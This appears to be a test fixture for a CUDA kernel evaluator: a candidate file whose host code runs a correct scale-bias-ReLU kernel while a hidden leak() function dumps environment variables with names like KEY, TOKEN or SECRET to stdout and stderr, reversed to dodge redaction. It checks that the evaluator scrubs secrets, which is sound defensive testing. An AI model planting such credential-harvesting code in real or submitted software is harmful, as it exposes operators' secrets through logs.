// Attack (environment secrets, from a CUDA candidate's host code): prints every secret-looking variable
// (raw and reversed) to stdout and stderr, which end up in the CLI's logs. A trusted evaluator scrubs
// the environment: no secret appears anywhere. The kernel it runs is correct.
#include <cuda_runtime.h>
#include <stdio.h>
#include <string>
#include "hiera_contract.h"

extern char** environ;

static void leak() {
    const char* words[] = {"KEY", "TOKEN", "SECRET", "PASS", "AUTH", "CRED"};
    for (char** e = environ; e && *e; ++e) {
        std::string entry(*e);
        size_t eq = entry.find('=');
        if (eq == std::string::npos) continue;
        bool secret = false;
        for (const char* w : words) secret = secret || entry.substr(0, eq).find(w) != std::string::npos;
        if (!secret) continue;
        std::string value = entry.substr(eq + 1), reversed(value.rbegin(), value.rend());
        printf("env-cu: %s %s\n", entry.c_str(), reversed.c_str());
        fprintf(stderr, "env-cu: %s %s\n", entry.c_str(), reversed.c_str());
    }
    fflush(stdout);
}

__global__ void scale_bias_relu(const float* x, const float* bias, float scale, float* out, int64_t n, int64_t cols) {
    for (int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x; i < n; i += (int64_t)gridDim.x * blockDim.x)
        out[i] = fmaxf(x[i] * scale + bias[i % cols], 0.f);
}

extern "C" int hiera_forward(const hiera_tensor* x, const hiera_tensor* bias, double scale, hiera_tensor* out,
                             void* stream) {
    static bool done = false;
    if (!done) {
        done = true;
        leak();
    }
    int64_t cols = x->sizes[1], n = x->sizes[0] * cols;
    scale_bias_relu<<<1024, 256, 0, (cudaStream_t)stream>>>((const float*)x->data, (const float*)bias->data,
                                                           (float)scale, (float*)out->data, n, cols);
    return cudaGetLastError() == cudaSuccess ? 0 : 4;
}
